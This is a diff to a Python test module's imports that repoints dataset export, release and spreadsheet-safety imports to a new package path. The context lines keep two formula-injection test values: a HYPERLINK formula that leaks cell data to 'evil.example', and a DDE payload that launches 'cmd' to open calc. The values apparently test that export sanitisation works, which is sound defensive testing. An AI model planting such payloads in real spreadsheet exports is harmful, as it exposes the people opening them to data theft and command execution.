@@ -8,16 +8,16 @@ import json
 
 import pytest
 
-from analysis.datasets import export_rows, parquet, writers
-from analysis.datasets.releases import build_release
-from analysis.datasets.spreadsheet import FORMULA_PREFIXES, spreadsheet_safe
-from analysis.datasets.tables import TABLES, Column
 from analysis.factor_effects import refresh_factor_effects
 from analysis.models import Measurement
 from analysis.tests.factories import DriveModelAggregateFactory, HostFactory, SteadyStateWindowFactory, iops_run
 from analysis.tests.factories_dirth import add_results
 from analysis.tests.recovery_rows import add_recovery_rows
 from analysis.tests.surface_factory import surface_run
+from datasets import export_rows, parquet, writers
+from datasets.releases import build_release
+from datasets.spreadsheet import FORMULA_PREFIXES, spreadsheet_safe
+from datasets.tables import TABLES, Column
 
 NAME = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
 FIRMWARE = "-2+3+cmd|' /C calc'!A0"
